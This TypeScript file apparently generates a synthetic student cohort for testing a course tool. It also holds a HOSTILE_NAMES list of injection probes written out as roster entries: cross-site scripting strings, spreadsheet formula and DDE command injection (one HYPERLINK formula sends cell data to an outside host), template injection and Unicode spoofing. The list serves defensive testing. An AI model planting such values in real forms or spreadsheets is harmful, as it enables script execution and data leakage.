/** Who is in a generated cohort. Some have names that try to be something else. */
import type { Names } from './errors.ts';
import type { Random } from './random.ts';

const FIRST =
  'Amina Bilal Chidi Dilnoza Elena Farid Gaukhar Hana Ivo Jamila Kofi Leila Mateo Nadia Omar Priya Quang Rosa Sanjar Tamar Umut Vera Wanjiru Ximena Yusuf Zarina'.split(
    ' ',
  );
const LAST =
  'Abdullaev Bauer Castillo Diallo Eriksen Farouk Gonzalez Haddad Ivanova Jensen Karimov Lopez Mbeki Nguyen Okafor Petrov Qureshi Rahman Silva Tanaka Usmanov Vargas Weber Xu Yilmaz Zhang'.split(
    ' ',
  );
export const GROUPS = ['Monday', 'Tuesday', 'Evening'] as const;
const NAMES: Omit<Names, 'user'>[] = [
  { model: 'Item', field: 'owner', path: 'items' },
  { model: 'Publicacion', field: 'autor', path: 'publicaciones' },
  { model: 'Eintrag', field: 'verfasser', path: 'eintraege' },
  { model: 'Entry', field: 'writer', path: 'entries' },
  { model: 'Story', field: 'reporter', path: 'stories' },
];

/** As they would stand in a roster that learners fill in themselves. */
export const HOSTILE_NAMES = [
  '<img src=x onerror="window.attacked=1">',
  '</script><script>window.attacked=1</script>',
  '=HYPERLINK("http://example.com/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  'Anna "the\r\n=1+2" Bell, Jr.',
  '\u202egnp.exe',
  'a\u0000b\u001b[31mred\u2028line',
  '#{7*7}{{7*7}}<!-- --><svg/onload=window.attacked=1>',
  '＝1+1',
] as const;

export interface Person {
  id: string;
  name: string;
  group: string;
  repository: string;
  names: Names;
}

export function personOf(index: number, random: Random): Person {
  const first = random.one(FIRST);
  const last = random.one(LAST);
  const number = String(index + 1).padStart(5, '0');
  const id = `${first}-${last}-${number}`.toLowerCase();
  return {
    id,
    name: `${first} ${last} ${index + 1}`,
    group: random.one(GROUPS),
    repository: `https://github.com/course/${id}`,
    names: { ...random.one(NAMES), user: `alice${random.word()}` },
  };
}
